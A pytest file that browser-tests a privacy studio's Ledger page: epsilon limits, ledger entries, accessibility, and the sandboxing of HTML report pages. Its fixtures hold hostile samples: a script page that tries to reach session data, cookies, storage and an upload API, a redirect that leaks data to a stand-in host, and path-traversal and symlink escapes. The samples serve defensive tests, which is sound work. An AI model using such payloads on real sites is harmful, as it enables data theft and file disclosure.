"""The page Ledger in a browser: a limit that stays, who spent what, and pages in a cage."""

import pytest

from helpers.browser import visiting
from helpers.studio import studio_here
from helpers.studio_tables import USERS, people
from shoal.privacy import Ledger, PrivacyUnit, PureEvent

# Scripts of this page try to get at the studio, and write down how far they came.
EVIL = """<!doctype html><html><head><title>A &lt;b&gt;comparison&lt;/b&gt;</title></head><body>
<p id="ran">scripts do not run</p><ul id="got"></ul>
<img src="/api/session" onload="got('image')">
<script src="/static/api.js" onload="got('script')"></script>
<script>
const got = (what) => document.getElementById("got").append(what + " ");
document.getElementById("ran").textContent = "scripts run";
const attempts = [
  fetch("/api/session").then(() => got("session")),
  fetch("/api/tables/upload?name=x", {method: "POST", headers: {"Shoal-Studio": "1"}}).then(
    () => got("upload")),
];
try { if (parent !== window && parent.document.body) got("parent"); } catch {}
try { if (document.cookie !== undefined) got("cookie"); } catch {}
try { localStorage.x = 1; got("storage"); } catch {}
try { if (window.open("/ledger")) got("window"); } catch {}
Promise.allSettled(attempts).then(() => document.body.dataset.done = "");
</script></body></html>"""


LEAVING = """<!doctype html><title>leaving</title><script>
location.href = "http://elsewhere.invalid/?" + document.title;
</script>"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Return a folder of reports beside a file that no page may show."""
    root = tmp_path_factory.mktemp("pages")
    reports = root / "reports"
    (reports / "inner" / ".hidden").mkdir(parents=True)
    (reports / "evil.html").write_text(EVIL)
    (reports / "inner" / "plain.html").write_text("<p>no title</p>")
    (reports / "inner" / ".hidden" / "x.html").write_text("<title>hidden</title>")
    (reports / "notes.txt").write_text("no page")
    (root / "secret.html").write_text("<title>secret</title>")
    (reports / "link.html").symlink_to(root / "secret.html")
    (root / "outside").mkdir()
    (root / "outside" / "page.html").write_text("<title>outside</title>")
    (reports / "folder").symlink_to(root / "outside", target_is_directory=True)
    return reports


@pytest.fixture(scope="module")
def here(folder, tmp_path_factory):
    """Yield one studio in this process, with a folder of reports."""
    with studio_here(folders=(folder,)) as opened:
        yield opened


def test_only_plain_pages_below_the_folder_are_listed_and_served(here, folder):
    pages = here.client.get("/api/reports").json()["pages"]
    places = {page["place"]: page["title"] for page in pages}
    assert places == {
        "reports/evil.html": "A <b>comparison</b>",
        "reports/inner/plain.html": "plain.html",
    }
    assert str(folder) not in here.client.get("/api/reports").text
    for path in (
        "../secret.html",
        "..%2fsecret.html",
        "%2e%2e%2fsecret.html",
        "link.html",
        "evil.html",
        "folder/page.html",
        "0" * 32,
    ):
        assert here.client.get(f"/reports/{path}").status_code == 404, path


def test_a_page_that_becomes_a_link_is_not_served(here, folder):
    (folder / "later.html").write_text("<title>later</title>")
    (page,) = (
        one for one in here.client.get("/api/reports").json()["pages"] if one["title"] == "later"
    )
    address = f"/reports/{page['id']}"
    assert here.client.get(address).status_code == 200
    (folder / "later.html").unlink()
    (folder / "later.html").symlink_to(folder.parent / "secret.html")
    assert here.client.get(address).status_code == 404
    (folder / "later.html").unlink()


def test_scripts_of_a_page_reach_neither_the_studio_nor_its_pages(here, browser):
    (page_id,) = (
        one["id"]
        for one in here.client.get("/api/reports").json()["pages"]
        if one["place"] == "reports/evil.html"
    )
    policy = here.client.get(f"/reports/{page_id}").headers["content-security-policy"]
    parts = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert parts["sandbox"] == "allow-scripts"
    for name in ("default-src", "connect-src", "form-action", "base-uri"):
        assert parts[name] == "'none'"
    assert "http" not in policy
    assert "*" not in policy
    context = browser.new_context()
    try:
        tables = len(here.workspace.tables)
        alone = context.new_page()
        alone.goto(f"{here.address}/reports/{page_id}")
        framed = context.new_page()
        framed.goto(f"{here.address}/ledger?report={page_id}")
        for shown in (alone.frame_locator("iframe"), framed.frame_locator("iframe")):
            shown.locator("body[data-done]").wait_for()
            assert shown.locator("#ran").inner_text() == "scripts run"
            assert shown.locator("#got").inner_text() == ""
        assert len(here.workspace.tables) == tables
    finally:
        context.close()


def test_a_page_in_a_window_of_its_own_leads_it_nowhere(here, browser, folder):
    """What it shows could leave in the address that it leads to."""
    (folder / "leaving.html").write_text(LEAVING)
    (page_id,) = (
        one["id"]
        for one in here.client.get("/api/reports").json()["pages"]
        if one["title"] == "leaving"
    )
    context = browser.new_context()
    asked, tried = [], []
    context.on("request", lambda request: asked.append(request.url))
    context.on("console", lambda line: tried.append(line.text))
    try:
        page = context.new_page()
        page.goto(f"{here.address}/reports/{page_id}")
        while not [one for one in (*asked, *tried) if "elsewhere.invalid" in one]:
            page.wait_for_timeout(20)
        assert [one for one in asked if not one.startswith(here.address)] == []
        assert page.url == f"{here.address}/reports/{page_id}"
    finally:
        context.close()
        (folder / "leaving.html").unlink()


def test_a_limit_is_set_spends_are_listed_and_the_limit_stays(here, visit):
    table = here.workspace.add("people.csv", "upload", people(), USERS)
    address = f"{here.address}/ledger?table={table.id}"
    page = visit.open(address)
    page.get_by_label("Limit on epsilon").fill("3")
    page.get_by_role("button", name="Set the limit").press("Enter")
    page.get_by_text("None of the limit of epsilon 3").wait_for()
    page.get_by_label("Limit on epsilon").fill("2")
    page.get_by_role("button", name="Change the limit").click()
    page.get_by_text("None of the limit of epsilon 2").wait_for()
    unit = PrivacyUnit.user("person", max_rows=1)
    table.ledger.spend(PureEvent(epsilon=0.5), purpose="counts", privacy_unit=unit, columns=["age"])
    page.reload()
    page.get_by_label("Limit on epsilon").fill("1")
    page.get_by_label("Reason").fill("a second study")
    page.get_by_role("button", name="Raise the limit").click()
    page.get_by_role("alert").get_by_text("raised only").wait_for()
    assert table.ledger.limits.epsilon == 2.0
    page.get_by_label("Limit on epsilon").fill("3")
    page.get_by_role("button", name="Raise the limit").click()
    page.get_by_text("a second study").wait_for()
    assert table.ledger.limits.epsilon == 3.0
    page.reload()
    row = page.get_by_role("table", name="Entries of the ledger").locator("tbody tr").inner_text()
    for word in ("epsilon 0.5", "counts", "people", "age", "user"):
        assert word in row
    assert "Promised in total: central differential privacy" in page.locator("main").inner_text()


def test_a_ledger_in_a_file_is_shown_without_a_table_and_charged_on_purpose(tmp_path, visit):
    file = tmp_path / "people.ledger"
    other = Ledger(file, epsilon=2.0, table="people", who="elsewhere")
    other.spend(PureEvent(epsilon=0.5), purpose="another program")
    with studio_here(ledger=file) as here:
        page = visit.open(f"{here.address}/ledger")
        page.get_by_text("another program").wait_for()
        table = here.workspace.add("clients.csv", "upload", people(), None)
        page.goto(f"{here.address}/ledger?table={table.id}")
        with page.expect_response(lambda answer: answer.request.method != "GET"):
            page.get_by_role("button", name="Charge this ledger").click()
        page.get_by_text("other programs may charge it too").wait_for()
        assert table.ledger.table == "people"
        other.spend(PureEvent(epsilon=0.25), purpose="meanwhile")
        page.reload()
        page.get_by_text("meanwhile").wait_for()
        assert "38% of the limit" in page.locator("main").inner_text().replace("37.5%", "38%")


@pytest.mark.parametrize("width", [pytest.param(1440, marks=pytest.mark.full), 390])
def test_no_serious_issue_and_nothing_overflows(here, browser, width):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    here.workspace.ledgers.clear()  # a file of this name is about other people each time
    table = here.workspace.add("people.csv", "upload", people(), USERS)
    here.client.post(f"/api/tables/{table.id}/ledger", json={"epsilon": 1.0})
    with visiting(browser, viewport={"width": width, "height": 844}) as visit:
        page = visit.open(f"{here.address}/ledger?table={table.id}")
        page.get_by_text("has been spent").wait_for()
        found = axe.run(page).response["violations"]
        assert [one["id"] for one in found if one["impact"] in ("serious", "critical")] == []
        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
